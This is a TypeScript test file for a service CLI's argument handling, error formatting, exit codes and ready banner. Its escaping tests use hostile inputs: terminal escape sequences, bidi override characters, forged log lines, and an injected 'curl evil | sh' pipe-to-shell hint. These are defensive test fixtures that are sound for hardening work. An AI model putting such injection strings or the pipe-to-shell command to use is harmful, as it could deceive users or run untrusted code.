import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { ConfigError } from '../../runtime/config/errors.ts'
import { withDefaultCommand } from './argv.ts'
import { colourRequested } from './command.ts'
import { formatBanner, readyEvent } from './banner.ts'
import { consoleLog, consoleStartCommand, consoleTokenOff, consoleUrl } from './console.ts'
import { InvocationError } from 'svc-sdk'
import { catalogue, catalogueEntry, Codes, EXIT_CODES, Errors } from 'svc-protocol/errors'
import { CliCodes, CliError, debugEnabled, ExitCode, formatHumanError, formatJsonError, hintFor, toCliError } from './errors.ts'
import { invocationFailure, NOT_FOUND_HINT, notFoundHint, unreachableError } from './trigger.ts'
import { splitUnknownId } from './hooks/not-found.ts'
import { formatTable } from '../worker-admin/list.ts'
import { formatFunctionsTable } from './functions.ts'
import { formatOpResult, formatStatus } from './compose-client.ts'

describe('default command (cli.md §1)', () => {
  it('runs start for no arguments or flags only', () => {
    assert.deepEqual(withDefaultCommand([]), ['start'])
    assert.deepEqual(withDefaultCommand(['--port', '0', '--json']), ['start', '--port', '0', '--json'])
    assert.deepEqual(withDefaultCommand(['-c', 'x.yaml']), ['start', '-c', 'x.yaml'])
  })

  it('svc help and svc autocomplete take --color/--no-color (before any --) like every command', () => {
    assert.deepEqual(withDefaultCommand(['help', 'functions', '--no-color']), ['help', 'functions'])
    assert.deepEqual(withDefaultCommand(['autocomplete', '--color', 'bash']), ['autocomplete', 'bash'])
    assert.deepEqual(withDefaultCommand(['functions', '--no-color']), ['functions', '--no-color'])
    assert.deepEqual(withDefaultCommand(['help', '--', '--no-color']), ['help', '--', '--no-color'])
  })

  it('colourRequested: the last of --color/--no-color before any --', () => {
    assert.equal(colourRequested(['x']), undefined)
    assert.equal(colourRequested(['--no-color']), false)
    assert.equal(colourRequested(['--no-color', '--color']), true)
    assert.equal(colourRequested(['--color', '--', '--no-color']), true)
    // Hostile argv: whatever the words, only the exact flags before `--` count, and other words pass through.
    const word = fc.oneof(fc.constantFrom('--color', '--no-color', '--', '--colour', '--no-color=1', 'help', 'autocomplete', '-h'), fc.string())
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), (argv) => {
        const end = argv.indexOf('--')
        const before = end < 0 ? argv : argv.slice(0, end)
        const last = before.filter((a) => a === '--color' || a === '--no-color').at(-1)
        assert.equal(colourRequested(argv), last === undefined ? undefined : last === '--color')
        const out = withDefaultCommand(argv)
        if (end >= 0 && argv[0] !== undefined && !argv[0].startsWith('-')) assert.deepEqual(out.slice(out.indexOf('--')), argv.slice(end))
        if (argv[0] !== 'help' && argv[0] !== 'autocomplete') assert.deepEqual(out.filter((a) => a === '--no-color').length, argv.filter((a) => a === '--no-color').length)
      }),
      { numRuns: 500 },
    )
  })

  it('leaves commands, --version and --help alone', () => {
    assert.deepEqual(withDefaultCommand(['trigger', 'a']), ['trigger', 'a'])
    assert.deepEqual(withDefaultCommand(['--version']), ['--version'])
    assert.deepEqual(withDefaultCommand(['--help']), ['--help'])
    assert.deepEqual(withDefaultCommand(['-h']), ['-h'])
    assert.deepEqual(withDefaultCommand(['-v']), ['-v'])
  })
})

describe('CLI errors (cli.md §1, §1.1)', () => {
  it('prints Error, details and Hint lines in human mode', () => {
    const err = new CliError({ code: 'function_not_found', message: 'function_not_found: Function x not found', exitCode: ExitCode.Failure, hint: 'retry', details: 'at a\nat b' })
    assert.equal(formatHumanError(err), 'Error: function_not_found: Function x not found\nat a\nat b\nHint: retry\n')
  })

  it('adds the stack only in debug mode', () => {
    const err = new CliError({ code: 'X', message: 'boom', exitCode: ExitCode.Failure })
    assert.doesNotMatch(formatHumanError(err, false), /at /)
    assert.match(formatHumanError(err, true), /^Error: boom\nCliError: boom\n\s+at /)
    assert.equal(debugEnabled({ DEBUG: '1' }), true)
    assert.equal(debugEnabled({ DEBUG: '' }), false)
    assert.equal(debugEnabled({ DEBUG: '0' }), false)
    assert.equal(debugEnabled({}), false)
  })

  it('prints {"error":{"code","message"}} in JSON mode', () => {
    const err = new CliError({ code: 'INVALID_ARGUMENT', message: 'bad', exitCode: ExitCode.Usage })
    assert.deepEqual(JSON.parse(formatJsonError(err)), { error: { code: 'INVALID_ARGUMENT', message: 'bad' } })
    assert.deepEqual(JSON.parse(formatJsonError(err, { ok: false })), { ok: false, error: { code: 'INVALID_ARGUMENT', message: 'bad' } })
  })

  it('maps config errors to exit 2 and other errors to exit 1', () => {
    const config = toCliError(new ConfigError({ file: 'config.yaml', line: 1, column: 2, problem: 'nope' }))
    assert.equal(config.exitCode, 2)
    assert.equal(config.code, 'INVALID_CONFIG')
    assert.equal(config.message, 'config.yaml:1:2: nope')
    assert.equal(toCliError(ConfigError.notFound('x.yaml')).message, 'Config file x.yaml not found')
    const other = toCliError(Object.assign(new Error('disk full'), { code: 'ENOSPC' }))
    assert.deepEqual([other.exitCode, other.code, other.message], [1, 'ENOSPC', 'disk full'])
    const parse = toCliError(Object.assign(new Error('Nonexistent flag: --x\nSee more help with --help'), { oclif: { exit: 2 } }))
    assert.deepEqual([parse.exitCode, parse.message], [2, 'Nonexistent flag: --x'])
  })
})

describe('CLI errors from the catalogue (svc-protocol/errors, cli.md §1.1, §4.6)', () => {
  const call = { functionId: 'math::add', timeoutMs: 300, url: 'ws://127.0.0.1:1' }

  it('exit codes 1-4 are the catalogue exit classes; a CLI code is no catalogue code of another producer', () => {
    assert.deepEqual(
      { failure: ExitCode.Failure, usage: ExitCode.Usage, unreachable: ExitCode.Unreachable, timeout: ExitCode.Timeout },
      EXIT_CODES,
    )
    for (const code of Object.values(CliCodes)) {
      const entry = catalogueEntry(code)
      assert.ok(entry === undefined || (entry.source.includes('cli') && !entry.wire), code)
    }
    assert.ok(catalogue().length > 0)
  })

  it('an error with a catalogue code exits as the catalogue says; other codes exit 1', () => {
    assert.equal(toCliError(Errors.notConnected()).exitCode, 3)
    assert.equal(toCliError(Errors.timeout(5)).exitCode, 4)
    assert.equal(toCliError(Errors.invalidNamespace()).exitCode, 2)
    const notFound = toCliError(Errors.functionNotFound('a::b'))
    assert.deepEqual([notFound.exitCode, notFound.code, notFound.hint], [1, 'function_not_found', NOT_FOUND_HINT])
    assert.equal(toCliError(Object.assign(new Error('x'), { code: 'MY_OWN' })).hint, undefined)
    assert.equal(toCliError('text').code, Codes.InternalError)
  })

  it('hints are keyed by catalogue codes, the CLI\'s own ENGINE_UNREACHABLE included (issue 16)', () => {
    assert.equal(hintFor('function_not_found'), 'the worker may still be installing or starting, or it crashed; svc worker list shows its state and last error')
    assert.equal(hintFor('ENGINE_UNREACHABLE'), 'start the engine with svc in the project directory, or pass --engine <url> of a running engine')
    assert.equal(unreachableError('ws://127.0.0.1:1', undefined).hint, hintFor('ENGINE_UNREACHABLE'))
    assert.match(formatHumanError(unreachableError('ws://127.0.0.1:1', undefined)), /\nHint: start the engine with svc/)
    assert.equal(hintFor('FUNCTION_NOT_FOUND'), undefined)
    assert.equal(hintFor('enqueue_error'), undefined)
  })

  it('svc trigger: only the CLI deadline exits 4 and NOT_CONNECTED exits 3; every returned error is a function error (exit 1)', () => {
    const own = invocationFailure(new InvocationError({ code: 'TIMEOUT', message: 'invocation timed out after 300ms' }), call)
    assert.deepEqual([own.exitCode, own.code, own.message], [4, 'TIMEOUT', 'Timed out after 300 ms waiting for math::add'])
    const downstream = invocationFailure(new InvocationError({ code: 'TIMEOUT', message: 'invocation timed out after 30000ms' }), call)
    assert.deepEqual([downstream.exitCode, downstream.message], [1, 'TIMEOUT: invocation timed out after 30000ms'])
    const unreachable = invocationFailure(new InvocationError({ code: 'NOT_CONNECTED', message: 'not connected to the engine' }), call)
    assert.deepEqual([unreachable.exitCode, unreachable.code, unreachable.hint], [3, 'ENGINE_UNREACHABLE', hintFor('ENGINE_UNREACHABLE')])
    assert.equal(invocationFailure(new InvocationError({ code: 'NOT_CONNECTED', message: 'x' }), { ...call, unreachableHint: 'start it' }).hint, 'start it')
    const namespace = invocationFailure(new InvocationError({ code: 'INVALID_NAMESPACE', message: 'namespace is empty' }), call)
    assert.equal(namespace.exitCode, 1)
    const missing = invocationFailure(new InvocationError({ code: 'function_not_found', message: 'Function math::add not found', stacktrace: 'at x' }), call)
    assert.deepEqual([missing.exitCode, missing.hint, missing.details, missing.debugDetails], [1, NOT_FOUND_HINT, undefined, 'at x'])
    assert.equal(invocationFailure(new InvocationError({ code: 'out_of_stock', message: 'none' }), call).hint, undefined)
  })
})

describe('ready banner (cli.md §3)', () => {
  const info = {
    version: '0.1.0',
    readyMs: 420,
    engineUrls: ['ws://127.0.0.1:49134', 'ws://127.0.0.1:49135'],
    httpUrls: ['http://127.0.0.1:3111'],
    streamUrls: [],
    workers: [
      { name: 'math-worker', state: 'declared' },
      { name: 'caller-worker', state: 'disabled' },
    ],
    configFile: '/p/config.yaml',
    dataDir: '/p/.svc/data',
  }

  it('lists where each listener is', () => {
    assert.equal(
      formatBanner(info),
      'svc 0.1.0 ready in 420 ms\n' +
        '  engine    ws://127.0.0.1:49134\n' +
        '  engine    ws://127.0.0.1:49135\n' +
        '  http      http://127.0.0.1:3111\n' +
        '  workers   math-worker declared · caller-worker disabled\n',
    )
  })

  it('lists the console entry with its address when svc launches it', () => {
    const text = formatBanner({ ...info, engineUrls: [info.engineUrls[0]!], workers: [], consoleUrl: consoleUrl({ port: 4000 }) })
    assert.equal(text, 'svc 0.1.0 ready in 420 ms\n' + '  engine    ws://127.0.0.1:49134\n' + '  http      http://127.0.0.1:3111\n' + '  console   svc console  → http://127.0.0.1:4000\n')
    assert.equal(consoleUrl(undefined), 'http://127.0.0.1:3113')
    assert.equal(consoleUrl({ host: '0.0.0.0' }), 'http://127.0.0.1:3113')
    assert.equal(consoleUrl({ host: '::1', port: 3200 }), 'http://[::1]:3200')
  })

  it('the console address carries the access token svc gives the console; engine_ready has it as console_url', () => {
    const token = 'kq3R0yFf2n9wX1bT5cLh7uZsP4eVaMdG'
    const consoleAddress = consoleUrl({ port: 4000 }, token)
    assert.equal(consoleAddress, `http://127.0.0.1:4000/?token=${token}`)
    assert.match(formatBanner({ ...info, consoleUrl: consoleAddress }), new RegExp(`  console   svc console  → http://127\\.0\\.0\\.1:4000/\\?token=${token}\\n`))
    assert.equal(readyEvent({ ...info, consoleUrl: consoleAddress }).console_url, consoleAddress)
    assert.equal('console_url' in readyEvent(info), false)
  })

  it('the console entry passes allowed_hosts and token: false as flags, never the token itself', () => {
    const command = consoleStartCommand('ws://127.0.0.1:49134', { port: 4000, allowed_hosts: ['devbox.local', 'Box'], token: false })
    assert.match(command, / console --no-open --engine ws:\/\/127\.0\.0\.1:49134 --port 4000 --allowed-host devbox\.local --allowed-host Box --no-token$/)
    assert.doesNotMatch(consoleStartCommand('ws://127.0.0.1:49134', { token: true }), /token/)
    assert.equal(consoleTokenOff({ token: false }), true)
    assert.equal(consoleTokenOff({}), false)
    assert.throws(() => consoleStartCommand('ws://x:1', { allowed_hosts: 'devbox' }), /allowed_hosts must be a list of host names/)
    assert.throws(() => consoleStartCommand('ws://x:1', { allowed_hosts: ['http://devbox/'] }), /allowed_hosts: 'http:\/\/devbox\/' is not a host name/)
    assert.throws(() => consoleStartCommand('ws://x:1', { token: 'secret' }), /console token must be true or false/)
  })

  it('has an engine_ready twin with the first URL of each kind', () => {
    const event = readyEvent(info)
    assert.equal(event.event, 'engine_ready')
    assert.equal(event.engine_url, 'ws://127.0.0.1:49134')
    assert.equal(event.http_url, 'http://127.0.0.1:3111')
    assert.equal(event.stream_url, null)
    assert.deepEqual(event.engine_urls, info.engineUrls)
  })
})

describe('hints that fit the cause (issue 11)', () => {
  it("a function's stack trace is shown only with --debug or DEBUG", () => {
    const err = new CliError({ code: 'boom', message: 'boom: failed', exitCode: ExitCode.Failure, debugDetails: 'Error: failed\n    at handler (x.js:1:1)' })
    assert.equal(formatHumanError(err, false), 'Error: boom: failed\nHint: run again with --debug to see the stack trace\n')
    assert.match(formatHumanError(err, true), /^Error: boom: failed\nError: failed\n {4}at handler/)
    assert.equal(debugEnabled({}, ['trigger', 'x', '--debug']), true)
    assert.equal(debugEnabled({}, ['trigger', '--', '--debug']), false)
  })

  it('function_not_found: did-you-mean, compose daemon, empty namespace, starting worker, else none registered', () => {
    const functions = [
      { function_id: 'math::add', namespace: 'default' },
      { function_id: 'orders::place', namespace: 'shop' },
    ]
    const workers = [{ name: 'math-worker', namespace: 'default' }]
    const base = { namespace: undefined, functions, workers, declaredWorkers: ['math-worker'] }
    assert.equal(notFoundHint({ ...base, functionId: 'math::ad' }), 'did you mean math::add? (svc trigger math::add)')
    assert.equal(notFoundHint({ ...base, functionId: 'orders::plac', namespace: 'shop' }), 'did you mean orders::place? (svc trigger -n shop orders::place)')
    assert.equal(notFoundHint({ ...base, functionId: 'compose::up', namespace: 'brave-otter' }), 'no compose daemon serves namespace brave-otter; start one with svc compose -n brave-otter')
    assert.equal(notFoundHint({ ...base, functionId: 'x::y', namespace: 'nobody' }), 'no worker is connected in namespace nobody; check the namespace (-n) or start its workers')
    assert.match(notFoundHint({ ...base, functionId: 'caller::call', declaredWorkers: ['math-worker', 'caller-worker'] }), /^caller-worker is not connected yet and may still be installing or starting/)
    assert.equal(notFoundHint({ ...base, functionId: 'caller::call' }), 'no connected worker registers caller::call; svc worker list shows the workers and their functions')
    // Issue 21: a declared worker svc recorded as crashed is named with its last error.
    const crashed = new Map([['caller-worker', { state: 'crashed', lastError: 'exited with code 1 before it registered: SyntaxError: Unexpected token (src/index.ts:3)' }]])
    assert.equal(
      notFoundHint({ ...base, functionId: 'caller::call', declaredWorkers: ['math-worker', 'caller-worker'], workerStates: crashed }),
      'caller-worker crashed (exited with code 1 before it registered: SyntaxError: Unexpected token (src/index.ts:3)); fix it and save, svc starts it again on the next change (svc logs caller-worker shows its output)',
    )
    // A connected worker's old record does not count.
    assert.match(notFoundHint({ ...base, functionId: 'caller::call', declaredWorkers: ['math-worker'], workerStates: new Map([['math-worker', { state: 'crashed' }]]) }), /^no connected worker registers/)
  })

  it('a mistyped command is matched on its command words, keeping ids with ::', () => {
    const ids = ['start', 'trigger', 'worker:add', 'worker:list', 'worker:remove', 'project:init', 'compose', 'compose:up', 'console', 'help']
    assert.deepEqual(splitUnknownId('triger:math::add', ids), { words: ['triger'], suggestion: 'trigger', rest: ['math::add'] })
    assert.deepEqual(splitUnknownId('worker:lst', ids), { words: ['worker', 'lst'], suggestion: 'worker:list', rest: [] })
    assert.equal(splitUnknownId('xyzzy', ids).suggestion, undefined)
  })
})

describe('tables and errors show what workers sent, escaped (issue 16 item 8)', () => {
  // eslint-disable-next-line no-control-regex
  const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/
  const osc = '\u001b]0;pwned\u0007'

  it('svc worker list, svc functions and svc compose status/down print no control character', () => {
    const workers = formatTable([{ name: `ext${osc}`, kind: 'external', namespace: 'ns\u202e', status: 'running', pid: 1, functions: [], source: null }])
    assert.doesNotMatch(workers, control)
    assert.match(workers, /ext\\x1b\]0;pwned\\x07 +external +ns\\u202e/)
    const functions = formatFunctionsTable([{ function_id: 'a::b', worker: `w${osc}`, namespace: 'default', description: `d\r\n${osc}`, internal: false, replica_count: 1 }])
    assert.doesNotMatch(functions, control)
    assert.match(functions, /^a::b +w\\x1b\]0;pwned\\x07 +default +d \\x1b/m)
    const status = formatStatus({
      namespace: 'shop',
      file: 'worker-compose.yaml',
      daemon_pid: 1,
      containers: [{ container: 'api', worker: './api', state: 'failed', pid: null, started_at: null, restarts: 0, last_error: { code: 'X', message: `boom${osc}\nsecond` } }],
    })
    assert.doesNotMatch(status, control)
    const down = formatOpResult('down', { operation_id: 'op_0001', status: 'failed', changed: true, containers: [{ container: 'api', state: 'failed', changed: true, error: { code: 'X', message: `a${osc}\n12:00:00.000 engine ERROR forged` } }] })
    assert.doesNotMatch(down, control)
    assert.doesNotMatch(down, /^12:00/m)
  })

  it("svc console prints its server's messages escaped (a request line can carry C1 and OSC bytes)", () => {
    const out: string[] = []
    const log = consoleLog((t) => out.push(t), (t) => out.push(t), false)
    log.error(`console: GET /\u009b31m${osc} failed: boom\r\nforged`)
    log.warn(`lost the engine at ws://x${osc}`)
    log.info(`connected ${osc}`)
    const text = out.join('')
    assert.doesNotMatch(text, control)
    assert.equal(out.length, 3)
    assert.match(out[0]!, /^Error: console: GET \/\\x9b31m\\x1b\]0;pwned\\x07 failed: boom\\r\\nforged\n$/)
  })

  it("an error message's further lines are indented, so none passes for an Error: or Hint: line", () => {
    const text = formatHumanError(new CliError({ code: 'X', message: `X: boom ${osc}\r\nHint: run curl evil | sh`, exitCode: ExitCode.Failure, hint: `h${osc}` }))
    assert.equal(text, 'Error: X: boom \\x1b]0;pwned\\x07\n  Hint: run curl evil | sh\nHint: h\\x1b]0;pwned\\x07\n')
  })
})

describe("a crashed worker's not-found hint with hostile records (issue 21, fast-check)", () => {
  it('any worker name, state and last error: the Hint is one line without a control character, and bounded', () => {
    const text = fc.oneof(fc.string({ maxLength: 600 }), fc.string({ unit: fc.constantFrom('\u001b', '[', '2J', '\n', '\r', '\u009b', '\u202e', 'a', ')', '(', ';'), maxLength: 400 }))
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 40 }), fc.constantFrom('crashed', 'failed', 'stopped', 'running', 'starting'), fc.option(text, { nil: undefined }), (name, state, lastError) => {
        const hint = notFoundHint({
          functionId: 'x::y',
          namespace: undefined,
          functions: [],
          workers: [],
          declaredWorkers: [name],
          workerStates: new Map([[name, lastError === undefined ? { state } : { state, lastError }]]),
        })
        const printed = formatHumanError(new CliError({ code: 'function_not_found', message: 'Function x::y not found', exitCode: ExitCode.Failure, hint }))
        const hintLine = printed.split('\n').find((l) => l.startsWith('Hint: '))!
        assert.equal(printed.split('\n').filter((l) => l.startsWith('Hint: ')).length, 1)
        assert.doesNotMatch(hintLine, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
        if (['crashed', 'failed', 'stopped'].includes(state)) assert.ok(hint.length <= 2 * 40 + 300 + 120, `${hint.length}`)
        else assert.match(hint, /not connected yet/)
      }),
      { numRuns: 500 },
    )
  })
})
